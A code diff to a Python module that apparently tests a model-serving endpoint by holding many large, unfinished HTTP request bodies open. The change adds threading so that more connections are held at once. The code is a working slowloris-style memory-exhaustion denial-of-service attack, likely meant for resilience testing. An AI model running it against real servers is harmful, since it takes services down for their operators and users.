@@ -8,6 +8,7 @@ import socket
 import sys
 import time
 from collections.abc import Callable, Iterator
+from concurrent.futures import ThreadPoolExecutor
 from contextlib import ExitStack, contextmanager, suppress
 from dataclasses import dataclass
 
@@ -52,6 +53,8 @@ class Target:
 
             def hold(content: bytes) -> None:
                 with suppress(OSError):  # refused: the next one may not be
+                    if not self.is_on():
+                        return
                     connection = stack.enter_context(self.connect())
                     for start in range(0, len(content), _CHUNK):
                         connection.sendall(content[start : start + _CHUNK])
@@ -73,7 +76,7 @@ def _hold_bodies(*counts_and_sizes: tuple[int, int], is_chunked: bool = False) -
     """Return the attack that sends all but the last bytes of bodies: so many of so many MiB."""
 
     def attack(target: Target) -> None:
-        with target.holding() as hold:
+        with target.holding() as hold, ThreadPoolExecutor(16) as senders:  # a body may wait for memory
             for count, mib in counts_and_sizes:
                 size = mib * MIB
                 body = b'{"prompt": "x", "image": "'.ljust(size - 9, b"A")
@@ -82,7 +85,7 @@ def _hold_bodies(*counts_and_sizes: tuple[int, int], is_chunked: bool = False) -
                 else:
                     content = target.head(PREDICT, JSON, f"Content-Length: {size}") + body
                 for _ in range(count):
-                    hold(content)
+                    senders.submit(hold, content)
 
     return attack
 
